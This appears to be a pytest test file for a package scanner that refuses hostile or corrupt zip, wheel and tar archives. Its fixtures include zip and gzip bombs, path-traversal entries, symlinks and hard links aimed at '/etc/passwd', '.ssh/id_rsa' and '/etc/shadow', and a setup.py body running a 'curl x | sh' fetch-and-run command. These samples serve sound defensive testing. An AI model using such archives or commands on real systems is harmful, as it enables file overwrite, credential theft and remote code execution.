"""Hostile and broken archives are refused with a reason, never read."""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from policyengine.enrich.artifacts import ArchiveLimits, ArtifactRefused, ScanSettings
from policyengine.enrich.artifacts.archive import Archive, Member, open_archive, unsafe_name
from policyengine.enrich.artifacts.inspect import inspect_archive
from tests.enrich.artifacts.builders import tar_gz, wheel

LIMITS = ArchiveLimits(max_unpacked_bytes=4 << 20, max_members=100, max_ratio=50, ratio_floor=4096)


def zip_of(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buffer.getvalue()


def tar_of(infos: list[tarfile.TarInfo], data: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for info in infos:
            body = (data or {}).get(info.name)
            archive.addfile(info, io.BytesIO(body) if body is not None else None)
    return buffer.getvalue()


def refused(data: bytes, filename: str, match: str, limits: ArchiveLimits = LIMITS) -> None:
    with pytest.raises(ArtifactRefused, match=match):
        archive = open_archive(data, filename, limits)
        for member in archive.members:
            archive.read(member, member.size)


def test_clean_wheel_lists_its_files() -> None:
    filename, data = wheel("demo", "1.0", {"demo/__init__.py": b"x = 1\n"})
    archive = open_archive(data, filename, LIMITS)
    names = sorted(m.name for m in archive.members)
    assert names == [
        "demo-1.0.dist-info/METADATA",
        "demo-1.0.dist-info/RECORD",
        "demo-1.0.dist-info/WHEEL",
        "demo/__init__.py",
    ]
    member = next(m for m in archive.members if m.name == "demo/__init__.py")
    assert archive.read(member, 100) == b"x = 1\n"


def test_zip_bomb_by_ratio() -> None:
    data = zip_of([("demo/zeros.bin", b"\x00" * (1 << 20))])
    refused(data, "demo-1.0-py3-none-any.whl", "compression ratio .*zip bomb")


def test_zip_bomb_by_declared_size() -> None:
    limits = ArchiveLimits(max_unpacked_bytes=1000, max_members=100, max_ratio=1e9)
    data = zip_of([("a.py", b"a" * 600), ("b.py", b"b" * 600)])
    refused(data, "demo-1.0-py3-none-any.whl", "declared uncompressed size", limits)


def test_read_budget_caps_total_decompressed_bytes() -> None:
    # A member that decompresses to more than declared still stops at the budget.
    member = Member("a.py", 10)
    archive = Archive((member,), lambda name, limit: b"a" * limit, ArchiveLimits(15))
    assert archive.read(member, 10) == b"a" * 10
    assert archive.read(member, 10) == b"a" * 5
    with pytest.raises(ArtifactRefused, match="decompressed"):
        archive.read(member, 10)


def test_too_many_entries() -> None:
    data = zip_of([(f"f{i}.txt", b"") for i in range(101)])
    refused(data, "x.whl", "entries exceeds the cap")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("/etc/passwd", "absolute"),
        ("demo/../../evil.pth", r"'\.\.'"),
        ("..\\evil.pth", r"'\.\.'"),
        ("C:/Windows/evil.dll", "drive letter"),
    ],
)
def test_zip_unsafe_names(name: str, reason: str) -> None:
    refused(zip_of([(name, b"x")]), "x.whl", reason)


def test_zip_symlink() -> None:
    info = zipfile.ZipInfo("demo/link")
    info.external_attr = 0o120777 << 16
    refused(zip_of([(info, b"/etc/passwd")]), "x.whl", "symbolic link")


def test_zip_duplicate_entries() -> None:
    buffer = io.BytesIO()
    with pytest.warns(UserWarning), zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("demo/a.py", b"1")
        archive.writestr("demo/a.py", b"2")
    refused(buffer.getvalue(), "x.whl", "duplicate")


def test_zip_encrypted_entry() -> None:
    data = bytearray(zip_of([("a.py", b"x = 1\n")]))
    # Set the "encrypted" general purpose flag in the local and central headers.
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        data[at + flag_offset] |= 0x01
    refused(bytes(data), "x.whl", "encrypted")


def test_truncated_zip() -> None:
    _, data = wheel("demo", "1.0", {"demo/__init__.py": b"x = 1\n" * 100})
    refused(data[: len(data) // 2], "x.whl", "not a readable zip")


def test_corrupt_member_data_is_refused_on_read() -> None:
    data = bytearray(zip_of([("demo/a.py", b"print('hello world')\n" * 50)]))
    start = data.index(b"demo/a.py") + len("demo/a.py")
    for i in range(start + 2, start + 20):
        data[i] ^= 0xFF
    refused(bytes(data), "x.whl", "cannot read member")


def _info(name: str, kind: bytes, **extra: object) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    for key, value in extra.items():
        setattr(info, key, value)
    return info


@pytest.mark.parametrize(
    ("info", "reason"),
    [
        (_info("package/dev", tarfile.CHRTYPE, devmajor=1, devminor=3), "device"),
        (_info("package/blk", tarfile.BLKTYPE), "device"),
        (_info("package/fifo", tarfile.FIFOTYPE), "device"),
        (_info("/abs/path.js", tarfile.REGTYPE), "absolute"),
        (_info("package/../../x.js", tarfile.REGTYPE), r"'\.\.'"),
    ],
)
def test_tar_hostile_members(info: tarfile.TarInfo, reason: str) -> None:
    refused(tar_of([info]), "x-1.0.tgz", reason)


def _file(name: str, body: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(body)
    return info, body


def _tar(entries: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]]) -> bytes:
    infos = [e[0] if isinstance(e, tuple) else e for e in entries]
    data = {e[0].name: e[1] for e in entries if isinstance(e, tuple)}
    return tar_of(infos, data)


def _symlink(name: str, target: str) -> tarfile.TarInfo:
    return _info(name, tarfile.SYMTYPE, linkname=target)


def test_relative_symlink_inside_is_recorded_and_read_as_its_target() -> None:
    # pyparsing 3.3.3's sdist: docs/CONTRIBUTING.md -> ../CONTRIBUTING.md
    data = _tar(
        [
            _file("pyparsing-3.3.3/CONTRIBUTING.md", b"# Contributing\n"),
            _symlink("pyparsing-3.3.3/docs/CONTRIBUTING.md", "../CONTRIBUTING.md"),
        ]
    )
    archive = open_archive(data, "pyparsing-3.3.3.tar.gz", LIMITS)
    [link] = archive.links
    assert (link.kind, link.resolved) == ("symlink", "pyparsing-3.3.3/CONTRIBUTING.md")
    by_name = {m.name: m for m in archive.members}
    assert archive.read(by_name["pyparsing-3.3.3/docs/CONTRIBUTING.md"], 100) == b"# Contributing\n"


@pytest.mark.parametrize(
    ("target", "why"),
    [
        ("/etc/passwd", "absolute"),
        ("../../.ssh/id_rsa", "climbs out of the archive"),
        ("C:/Windows/x", "drive letter"),
        ("a\\..\\..\\x", "backslashes"),
    ],
)
def test_symlink_leaving_the_archive_is_recorded_unjudged_not_read(target: str, why: str) -> None:
    data = _tar([_file("demo-1.0/setup.py", b"pass\n"), _symlink("demo-1.0/evil.pth", target)])
    archive = open_archive(data, "demo-1.0.tar.gz", LIMITS)
    [link] = archive.links
    assert link.resolved is None and not link.judged, why
    assert [m.name for m in archive.members] == ["demo-1.0/setup.py"]


def test_symlink_chain_through_a_linked_directory_is_followed_inside_the_archive() -> None:
    # demo/up -> .. is the archive's root (inside); demo/x -> up/../secret climbs out
    # only once "up" is followed: a lexical normalisation would call it inside.
    data = _tar(
        [
            _file("demo/a.py", b"x = 1\n"),
            _symlink("demo/up", ".."),
            _symlink("demo/x", "up/../secret"),
            _symlink("demo/y", "up/demo/a.py"),
        ]
    )
    links = {link.path: link for link in open_archive(data, "demo-1.tar.gz", LIMITS).links}
    assert links["demo/up"].resolved == ""
    assert links["demo/x"].resolved is None
    assert links["demo/y"].resolved == "demo/a.py"


def test_symlink_loop_is_not_judged() -> None:
    data = _tar([_symlink("demo/a", "b"), _symlink("demo/b", "a")])
    assert all(not link.judged for link in open_archive(data, "demo-1.tar.gz", LIMITS).links)


def test_hard_link_inside_is_read_under_its_own_name() -> None:
    data = _tar(
        [
            _file("demo/payload.txt", b"import os\n"),
            _info("demo/x.pth", tarfile.LNKTYPE, linkname="demo/payload.txt"),
            _info("demo/y.pth", tarfile.LNKTYPE, linkname="../etc/shadow"),
        ]
    )
    archive = open_archive(data, "demo-1.tar.gz", LIMITS)
    links = {link.path: link for link in archive.links}
    assert links["demo/x.pth"].resolved == "demo/payload.txt"
    assert links["demo/y.pth"].resolved is None
    by_name = {m.name: m for m in archive.members}
    assert archive.read(by_name["demo/x.pth"], 100) == b"import os\n"
    assert "demo/y.pth" not in by_name


def test_a_symlink_to_a_hard_link_is_read_as_the_hard_link_s_target() -> None:
    data = _tar(
        [
            _file("demo/payload.txt", b"import os\n"),
            _info("demo/copy", tarfile.LNKTYPE, linkname="demo/payload.txt"),
            _symlink("demo/x.pth", "copy"),
        ]
    )
    archive = open_archive(data, "demo-1.tar.gz", LIMITS)
    by_name = {m.name: m for m in archive.members}
    assert archive.read(by_name["demo/x.pth"], 100) == b"import os\n"


def test_entry_under_a_symlinked_directory_is_refused() -> None:
    data = _tar([_symlink("demo/sub", "other"), _file("demo/sub/a.py", b"x = 1\n")])
    refused(data, "demo-1.tar.gz", "under the symbolic link")


def test_symlink_and_file_under_one_name_are_refused() -> None:
    data = _tar([_file("demo/a.py", b"x = 1\n"), _symlink("demo/a.py", "b.py")])
    refused(data, "demo-1.tar.gz", "duplicate")


def test_a_link_named_like_a_startup_file_is_inspected_with_its_target_bytes() -> None:
    # Extracted, demo/setup.py reads demo/build/real.py: its hooks are judged.
    data = _tar(
        [
            _file("demo-1.0/build/real.py", b"import os\nos.system('curl x | sh')\n"),
            _symlink("demo-1.0/setup.py", "build/real.py"),
        ]
    )
    report = inspect_archive(data, "demo-1.0.tar.gz", "sdist", "sha256:x", ScanSettings(LIMITS))
    assert any(h.path == "demo-1.0/setup.py" for h in report.install_hooks)
    assert "setup.py" in report.files


def test_truncated_tar_gz() -> None:
    data = tar_gz({"package/index.js": bytes(range(256)) * 400})
    refused(data[: len(data) - 200], "x-1.0.tgz", "truncated")


def test_truncated_tar_inside_member() -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        info = tarfile.TarInfo("package/index.js")
        info.size = 5000
        archive.addfile(info, io.BytesIO(b"a" * 5000))
    cut = raw.getvalue()[:2048]
    refused(gzip.compress(cut), "x-1.0.tgz", "truncated|not a readable tar")


def test_gzip_bomb_stops_at_cap() -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        info = tarfile.TarInfo("package/zeros")
        info.size = 8 << 20
        archive.addfile(info, io.BytesIO(b"\x00" * info.size))
    refused(gzip.compress(raw.getvalue()), "x-1.0.tgz", "decompresses to more than")


@pytest.mark.parametrize(
    ("compress", "suffix"), [(bz2.compress, ".tar.bz2"), (lzma.compress, ".tar.xz")]
)
def test_bz2_and_xz_sdists(compress: object, suffix: str) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        info = tarfile.TarInfo("demo-1.0/setup.py")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"x=1"))
    assert callable(compress)
    packed: bytes = compress(raw.getvalue())
    archive_ = open_archive(packed, "demo-1.0" + suffix, LIMITS)
    assert [m.name for m in archive_.members] == ["demo-1.0/setup.py"]
    refused(packed[:-10], "demo-1.0" + suffix, "truncated|corrupt")


def test_gzip_with_trailing_zero_padding_is_accepted() -> None:
    data = tar_gz({"package/index.js": b"1"}) + b"\x00" * 512
    assert [m.name for m in open_archive(data, "x.tgz", LIMITS).members] == ["package/index.js"]


def test_unknown_format_is_refused() -> None:
    refused(b"MZ...", "demo-1.0.win32.exe", "not a zip or tar")


@pytest.mark.parametrize(
    ("name", "unsafe"),
    [("a/b.py", False), ("./a", False), ("", True), ("a\x00b", True), ("a/../b", True)],
)
def test_unsafe_name(name: str, unsafe: bool) -> None:
    assert (unsafe_name(name) is not None) is unsafe


_, CLEAN = wheel("demo", "1.0", {"demo/__init__.py": b"import os\nx = os.getenv('X')\n" * 20})


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(st.integers(0, len(CLEAN) - 1), st.integers(0, 255)), min_size=1, max_size=8)
)
def test_mutated_archives_are_read_or_refused(flips: list[tuple[int, int]]) -> None:
    data = bytearray(CLEAN)
    for at, value in flips:
        data[at] = value
    with contextlib.suppress(ArtifactRefused):
        inspect_archive(bytes(data), "d-1.0-py3-none-any.whl", "wheel", "sha256:x", ScanSettings())


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=2000), st.sampled_from(["x.whl", "x.tgz", "x.tar.bz2", "x.tar.xz"]))
def test_random_bytes_are_refused(data: bytes, filename: str) -> None:
    try:
        open_archive(data, filename, LIMITS)
    except ArtifactRefused:
        return
    # Some tiny byte strings are valid empty archives; they must list nothing.
    assert open_archive(data, filename, LIMITS).members == ()
